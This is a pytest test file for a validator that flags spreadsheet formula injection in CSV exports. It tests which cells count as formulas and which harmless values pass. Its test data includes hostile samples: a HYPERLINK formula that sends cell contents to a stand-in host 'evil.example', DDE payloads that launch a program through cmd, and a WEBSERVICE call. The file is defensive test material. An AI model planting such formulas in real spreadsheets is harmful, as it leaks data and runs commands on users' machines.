"""Spreadsheet formula injection: what a spreadsheet would run, and what only looks like it."""
import json

import pandas as pd
import pytest
from click.testing import CliRunner

from catalog.cli import main
from catalog.validate.context import TableContext
from catalog.validate.formulas import FormulaInjectionCheck, is_formula


@pytest.mark.parametrize("cell", [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+A1", "-A1+B2",
    "\t=1+1", "\r=WEBSERVICE(\"http://x\")", "+-SUM(A1)", "=Feuil1!B2",
])
def test_formulas_are_found(cell):
    assert is_formula(cell)


@pytest.mark.parametrize("cell", [
    "-12,5", "-12.5", "-1 000,5", "+5%", "-12,5 €", "+33 1 23 45 67 89", "+33612345678", "+262 262 12 34 56",
    "-1e5", "- voir annexe", "@VilleDeSample", "-", "--", "=", "====", "2025-03-31", "\tbonjour", "",
    "Prix : =10€",  # the sign is not at the start: nothing runs
    "- voir (annexe 2)", "+ de 50 places", "@mairie (compte officiel)",
])
def test_harmless_cells_pass(cell):
    assert not is_formula(cell)


def test_one_finding_per_column():
    checker = FormulaInjectionCheck(TableContext("data.csv", None))
    checker.feed(pd.DataFrame({"montant": ["-12,5", "+3"], "libelle": ["ok", "=1+1"]}, dtype=str), 2)
    checker.feed(pd.DataFrame({"montant": ["1", "2"], "libelle": ["=2+2", "- note"]}, dtype=str), 4)
    found = checker.findings()
    assert len(found) == 1
    assert (found[0].code, found[0].column, found[0].row, found[0].value) == ("formula-injection", "libelle", 3, "=1+1")
    assert found[0].message.startswith("2 cells")


def test_bare_csv_through_the_cli(tmp_path):
    path = tmp_path / "export.csv"
    path.write_text('id,libelle,montant\n1,Fournitures,"-12,5"\n2,"=HYPERLINK(""http://x"",""ici"")",3\n',
                    encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(path), "--json"])
    assert result.exit_code == 1, result.output
    found = [f for t in json.loads(result.output)["targets"] for f in t["findings"]]
    assert [(f["code"], f["row"], f["column"]) for f in found] == [("formula-injection", 3, "libelle")]
